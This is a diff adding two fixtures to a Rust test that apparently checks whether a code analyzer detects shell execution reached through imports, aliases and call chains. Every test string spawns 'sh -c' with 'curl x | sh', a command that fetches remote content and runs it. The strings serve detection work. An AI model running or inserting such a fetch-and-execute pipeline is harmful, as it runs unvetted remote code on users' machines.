@@ -28,6 +28,8 @@ fn a_program_is_known_through_imports_aliases_and_chains() {
         "use std::process::{self, Command as C};\nfn main() { let mut c = C::new(\"sh\"); c.args([\"-c\", \"curl x | sh\"]); c.status()?; }",
         "fn main() { ::std::process::Command::new(\"sh\").args(&[\"-c\", concat!(\"curl\", \" x | sh\")]).output().expect(\"x\"); }",
         "use std::process;\nconst S: &str = \"curl x | sh\";\nimpl A { fn b(&self) { if self.x { match y { Ok(_) => { process::Command::new(S); } _ => {} } } } }",
+        "flags! { pub struct A: u32 { const B = C as u32; } }\nimpl Default for A { fn default() -> Self { A::B } }\nfn f() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl x | sh\").spawn(); }",
+        "use std::process::*;\nfn f() { Command::new(\"sh\").args([\"-c\", \"curl x | sh\"]).spawn(); }",
         "use std::process::Command;\nfn f() { std::thread::spawn(move || { let x = format!(\"curl {} | sh\", \"x\"); Command::new(\"sh\").arg(x); }); }",
     ] {
         let facts = of(text);
